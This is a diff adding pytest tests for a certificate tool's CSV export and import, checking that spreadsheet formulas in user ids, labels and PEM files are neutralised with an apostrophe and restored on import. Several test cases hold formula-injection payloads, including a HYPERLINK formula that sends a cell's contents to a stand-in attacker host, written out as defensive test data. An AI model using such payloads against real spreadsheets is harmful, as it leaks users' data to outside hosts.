@@ -301,3 +301,81 @@ def test_round_trip_through_the_installed_program(tmp_path: Path, db: str, pems:
     again = run_program("cert", "import", "--csv", "-", "--json", db=fresh, stdin=exported.stdout)
     assert again.returncode == 1
     assert json.loads(again.stdout)["refused"][0]["error"] == Reason.DUPLICATE_CERTIFICATE.value
+
+
+# -- formula injection: a spreadsheet must not run what a user id, label or PEM holds -----------
+
+FORMULA_CASES = [
+    # (user id, organisation, label, how each looks in the export)
+    pytest.param('=HYPERLINK("https://evil.example/?"&C2,"open")', "+acme", "@SUM(A1)",
+                 ('\'=HYPERLINK("https://evil.example/?"&C2,"open")', "'+acme", "'@SUM(A1)"), id="equals-plus-at"),
+    pytest.param("@evil", "=org", "-1+1", ("'@evil", "'=org", "'-1+1"), id="at-equals-minus"),
+    pytest.param("'=quoted", "acme", "''+twice", ("''=quoted", "acme", "'''+twice"), id="apostrophes-kept"),
+    pytest.param("plain", "'ok", "'not a formula", ("plain", "'ok", "'not a formula"), id="nothing-to-do"),
+]
+
+
+@pytest.mark.parametrize(("user", "org", "label", "cells"), FORMULA_CASES)
+def test_export_neutralises_formulas_and_import_gives_the_values_back(
+    cli: CLI, pem_files: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str],
+    user: str, org: str, label: str, cells: tuple[str, str, str],
+) -> None:
+    assert cli("user", "add", "--org", org, "--", user).status == 0
+    assert cli("cert", "upload", str(pem_files["carol"]), "--user", user, f"--label={label}").status == 0
+    path = tmp_path / "out.csv"
+    assert cli("cert", "export", "--csv", str(path)).status == 0
+    with path.open(newline="", encoding="utf-8") as handle:
+        (exported,) = list(csv.DictReader(handle))
+    assert (exported["user_id"], exported["org"], exported["label"]) == cells
+    assert exported["pem"] == pem_files["carol"].read_text()  # a PEM's -----BEGIN line is left alone
+
+    fresh = f"sqlite:///{tmp_path / 'fresh.db'}"
+    assert main(["--db", fresh, "user", "add", "--org", org, "--", user]) == 0
+    assert main(["--db", fresh, "cert", "import", "--csv", str(path)]) == 0
+    capsys.readouterr()
+    assert main(["--db", fresh, "cert", "list", "--json"]) == 0
+    (imported,) = json.loads(capsys.readouterr().out)
+    assert (imported["user_id"], imported["label"]) == (user, label)
+
+
+def test_a_pem_with_a_formula_in_front_is_neutralised_and_imported_exactly(
+    cli: CLI, pems: dict[str, bytes], tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    planted = b'=HYPERLINK("https://evil.example/","x")\n' + pems["carol"]
+    source = tmp_path / "planted.pem"
+    source.write_bytes(planted)
+    cli("user", "add", "carol")
+    assert cli("cert", "upload", str(source), "--user", "carol").status == 0
+    path = tmp_path / "out.csv"
+    assert cli("cert", "export", "--csv", str(path)).status == 0
+    with path.open(newline="", encoding="utf-8") as handle:
+        (exported,) = list(csv.DictReader(handle))
+    assert exported["pem"] == "'" + planted.decode()
+
+    fresh = f"sqlite:///{tmp_path / 'fresh.db'}"
+    assert main(["--db", fresh, "user", "add", "carol"]) == 0
+    assert main(["--db", fresh, "cert", "import", "--csv", str(path)]) == 0
+    fp = fingerprint(parse_chain([pems["carol"]]).leaf)
+    capsys.readouterr()
+    assert main(["--db", fresh, "cert", "download", fp, "--json"]) == 0
+    assert json.loads(capsys.readouterr().out)["pem"].encode() == planted
+
+
+@pytest.mark.parametrize(
+    ("cell", "label"),
+    [
+        pytest.param("'=1+1", "=1+1", id="one-apostrophe-off"),
+        pytest.param("'-x", "-x", id="before-minus"),
+        pytest.param("'@x", "@x", id="before-at"),
+        pytest.param("''=x", "'=x", id="only-one-off"),
+        pytest.param("'plain", "'plain", id="not-before-a-formula-kept"),
+        pytest.param("it's", "it's", id="inside-kept"),
+    ],
+)
+def test_import_takes_off_exactly_the_apostrophe_export_adds(
+    users: CLI, pems: dict[str, bytes], tmp_path: Path, cell: str, label: str
+) -> None:
+    path = write_csv(tmp_path / "in.csv", [row(pems, "carol", label=cell)])
+    assert users("cert", "import", "--csv", str(path)).status == 0
+    (imported,) = users("cert", "list", "--json").json()
+    assert imported["label"] == label
